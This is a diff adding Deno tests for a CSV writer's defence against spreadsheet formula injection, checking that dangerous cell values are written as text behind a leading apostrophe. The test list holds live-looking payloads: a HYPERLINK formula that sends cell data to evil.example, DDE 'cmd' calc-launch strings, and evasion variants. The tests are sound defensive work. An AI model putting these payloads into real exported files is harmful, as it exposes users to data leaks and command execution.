@@ -57,3 +57,44 @@ Deno.test("renderGapsCsv() has every token once", () => {
   assert.throws(() => renderGapsCsv([withoutRecordings()]), /'old.json' as csv-gaps: it holds no/);
   assert.throws(() => renderGapsCsv([live]), /holds no gaps/);
 });
+
+/** What a spreadsheet would run, call or open. */
+const FORMULAS = [
+  "=1+1",
+  '=HYPERLINK("http://evil.example?"&A1)',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "  =1+1",
+  "\uff1d1+1",
+  "\uff0b1",
+  "\uff20x",
+  "-",
+  "-a",
+  "--1",
+  "-1-1",
+];
+
+Deno.test("csvLine() writes what a spreadsheet would run as text", () => {
+  for (const formula of FORMULAS) {
+    const [, quoted, plain] = /^x,(?:"([^]*)"|([^",\r\n]*)),y\r\n$/.exec(
+      csvLine(["x", formula, "y"]),
+    )!;
+    assert.equal(quoted?.replaceAll('""', '"') ?? plain, `'${formula}`);
+  }
+});
+
+Deno.test("csvLine() leaves numbers as they are, written as text too", () => {
+  const numbers = [-1, -0.5, 0, 1e21, -1e-7];
+  assert.equal(csvLine(numbers), `${numbers.join(",")}\r\n`);
+  const texts = ["-1", "-0.5", "+3", "-1e-7", "-.5", "12", "a=b", "x-y", ""];
+  assert.equal(csvLine(texts), `${texts.join(",")}\r\n`);
+  assert.equal(csvLine([null, -2]), ",-2\r\n");
+});
+
+Deno.test("csvLine() quotes line ends of either kind alone", () => {
+  assert.equal(csvLine(["a\rb", "c\nd", 'e"f', "g,h"]), '"a\rb","c\nd","e""f","g,h"\r\n');
+});
